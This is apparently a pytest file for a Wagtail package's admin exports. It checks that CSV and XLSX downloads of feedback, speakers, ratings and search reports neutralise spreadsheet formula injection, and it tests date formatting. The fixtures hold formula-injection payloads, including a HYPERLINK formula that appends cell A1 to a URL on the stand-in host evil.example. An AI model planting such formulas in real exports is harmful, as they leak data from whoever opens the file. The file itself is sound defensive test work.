"""Every spreadsheet export the package offers goes through one neutralising
function (issue 9, item 9): the feedback listing (snippets and modeladmin), the
speaker listing, the "Session ratings" report and the two search reports, as CSV
and as XLSX.

The OWASP list of formula prefixes (``=``, ``+``, ``-``, ``@``, tab, carriage
return), their full-width forms, and each after leading blanks.
"""

import csv
import datetime
import importlib
import inspect
import io
import pkgutil

import pytest
from django.contrib.auth import get_user_model
from django.test import override_settings
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

import wagtail_pmolib
from wagtail_pmolib.admin.exports import SafeSpreadsheetExportMixin, neutralise_formula
from wagtail_pmolib.feedback import votes
from wagtail_pmolib.feedback.identity import Visitor
from wagtail_pmolib.models import Feedback, FeedbackSettings, SearchTerm, Speaker

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
BLANKS = [" ", "   ", "\n", " \t", "\r\n", "\u00a0", "\u3000"]
FORMULA = 'HYPERLINK("https://evil.example/?"&A1,"Open")'
PAYLOADS = [prefix + FORMULA for prefix in PREFIXES] + [
    # Blanks an import may trim, then a prefix (tab and CR are blanks themselves).
    blank + prefix + FORMULA
    for prefix in PREFIXES
    if not prefix.isspace()
    for blank in BLANKS
]
SAFE = ["Fine – thanks", "A=1", "Step up", "1+1", "e-mail me", "'=already text", "", " x = 1"]


# --- the function -------------------------------------------------------------------------


@pytest.mark.parametrize("value", PAYLOADS, ids=repr)
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_formula_prefixes_are_neutralised(value, export_format):
    assert neutralise_formula(value, export_format) == "'" + value


@pytest.mark.parametrize("value", SAFE)
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_other_text_is_left_alone(value, export_format):
    assert neutralise_formula(value, export_format) == value


@pytest.mark.parametrize("value", [5, -1, 4.5, None, datetime.date(2021, 11, 2)])
def test_values_that_are_not_text_are_left_alone(value):
    assert neutralise_formula(value) == value
    assert neutralise_formula(value, "xlsx") == value


def test_xlsx_cells_lose_the_control_characters_the_format_cannot_hold():
    assert neutralise_formula("a\x00b\x0bc\x1bd\te\nf", "xlsx") == "abcd\te\nf"
    assert neutralise_formula("\x0b=1+1", "xlsx") == "'=1+1"
    assert neutralise_formula("a\x0bb", "csv") == "a\x0bb"  # CSV carries them


# --- every export view of the package ----------------------------------------------------


def package_modules():
    for info in pkgutil.walk_packages(wagtail_pmolib.__path__, "wagtail_pmolib."):
        if ".migrations" in info.name or ".management.commands" in info.name:
            continue
        yield importlib.import_module(info.name)


def test_every_export_view_of_the_package_is_safe():
    views = set()
    for module in package_modules():
        for _name, found in inspect.getmembers(module, inspect.isclass):
            if found.__module__.startswith("wagtail_pmolib") and issubclass(
                found, SpreadsheetExportMixin
            ):
                views.add(found)
    from wagtail.snippets.models import get_snippet_models

    for model in get_snippet_models():
        viewset = model.snippet_viewset
        if model._meta.app_label == "wagtail_pmolib" and viewset.list_export:
            views.add(viewset.index_view_class)
    names = {f"{view.__module__}.{view.__qualname__}" for view in views}
    assert {
        "wagtail_pmolib.viewsets.FeedbackIndexView",
        "wagtail_pmolib.viewsets.SpeakerIndexView",
        "wagtail_pmolib.contrib.modeladmin.options.FeedbackIndexView",
        "wagtail_pmolib.admin.reports.SessionRatingsReportView",
        "wagtail_pmolib.admin.search_reports.PopularSearchesReportView",
        "wagtail_pmolib.admin.search_reports.NoResultSearchesReportView",
    } <= names
    unsafe = sorted(
        f"{view.__module__}.{view.__qualname__}"
        for view in views
        if not issubclass(view, SafeSpreadsheetExportMixin)
    )
    assert unsafe == []


HOSTILE = '=HYPERLINK("https://evil.example","Open")'
HOSTILE_WIDE = "　＠SUM(A1:A9)"  # an ideographic space, then a full-width @
HOSTILE_TAB = "\t-2+3"


@pytest.fixture
def admin_client(client, db):
    user = get_user_model().objects.create_superuser("admin", "admin@example.com", "x")
    client.force_login(user)
    return client


@pytest.fixture
def hostile(make_session):
    """The same hostile texts in every text column an export has."""
    page = make_session(title=HOSTILE, slug="hostile")
    for n, comment in enumerate((HOSTILE, HOSTILE_WIDE, HOSTILE_TAB, "a\x0bb")):
        votes.submit(
            page,
            Visitor(key=f"visitor-{n}"),
            votes.Submission(rating=n + 1, comment=comment),
            FeedbackSettings(comment_form="always"),
        )
    # Stored before comments lost their control characters: exports must still work.
    Feedback.objects.filter(comment="ab").update(comment="a\x0bb")
    Speaker.objects.create(name=HOSTILE, role=HOSTILE_WIDE, organisation=HOSTILE_TAB, bio="x\x0b")
    today = datetime.date.today()
    for text in (HOSTILE, HOSTILE_WIDE, HOSTILE_TAB):
        SearchTerm.objects.create(query_string=text, date=today, hits=3, no_result_hits=3)
    return page


EXPORTS = [
    pytest.param(
        lambda: reverse("wagtailsnippets_wagtail_pmolib_feedback:list"), {}, id="feedback"
    ),
    pytest.param(
        lambda: reverse("wagtail_pmolib_feedback_modeladmin_index"),
        {"FEEDBACK_ADMIN": "modeladmin"},
        id="feedback-modeladmin",
    ),
    pytest.param(lambda: reverse(Speaker.snippet_viewset.get_url_name("list")), {}, id="speakers"),
    pytest.param(lambda: reverse("wagtail_pmolib_admin:session_ratings"), {}, id="ratings-report"),
    pytest.param(
        lambda: reverse("wagtail_pmolib_admin:popular_searches"), {}, id="popular-searches"
    ),
    pytest.param(
        lambda: reverse("wagtail_pmolib_admin:no_result_searches"), {}, id="no-result-searches"
    ),
]


def exported_cells(response, export_format):
    assert response.status_code == 200, response.status_code
    data = b"".join(response.streaming_content)
    if export_format == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
        return [(cell, "s") for row in rows[1:] for cell in row]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    return [(cell.value, cell.data_type) for row in rows[1:] for cell in row]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize(("url", "pmolib"), EXPORTS)
def test_every_export_neutralises_every_hostile_cell(
    admin_client, hostile, url, pmolib, export_format
):
    with override_settings(WAGTAIL_PMOLIB=pmolib):
        response = admin_client.get(url(), {"export": export_format})
        cells = exported_cells(response, export_format)
    texts = [value for value, _type in cells if isinstance(value, str)]
    found = [value for value in texts if value.lstrip("'") in (HOSTILE, HOSTILE_WIDE, HOSTILE_TAB)]
    assert found, texts  # the hostile texts are in this export
    for value in found:
        assert value.startswith("'"), value
    for value in texts:
        assert not value.lstrip().startswith(tuple(PREFIXES)), value
    assert all(data_type != "f" for _value, data_type in cells)


# --- dates and times (issue 12, papercut) ------------------------------------------------


def test_dates_in_csv_read_as_the_site_shows_them():
    from wagtail_pmolib.admin.exports import export_datetime

    moment = datetime.datetime(2026, 7, 1, 5, 4, 3, 999, tzinfo=datetime.UTC)
    # tests.settings: TIME_ZONE = "Europe/London", summer time.
    assert export_datetime(moment) == "1 July 2026, 06:04"
    assert export_datetime(datetime.date(2021, 11, 2)) == "2 November 2021"
    assert export_datetime(moment, "xlsx") == datetime.datetime(2026, 7, 1, 6, 4, 3, 999)
    assert export_datetime(datetime.date(2021, 11, 2), "xlsx") == datetime.date(2021, 11, 2)
    assert export_datetime("2026") == "2026"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_feedback_export_dates_are_local_and_readable(admin_client, hostile, export_format):
    from django.utils import timezone

    moment = datetime.datetime(2026, 7, 1, 23, 30, tzinfo=datetime.UTC)
    Feedback.objects.update(created_at=moment)
    response = admin_client.get(
        reverse("wagtailsnippets_wagtail_pmolib_feedback:list"), {"export": export_format}
    )
    values = [value for value, _type in exported_cells(response, export_format)]
    local = timezone.localtime(moment)  # the next day in London
    if export_format == "csv":
        assert "2 July 2026, 00:30" in values
        assert not any("+00:00" in str(value) for value in values)
    else:
        assert local.replace(tzinfo=None) in values
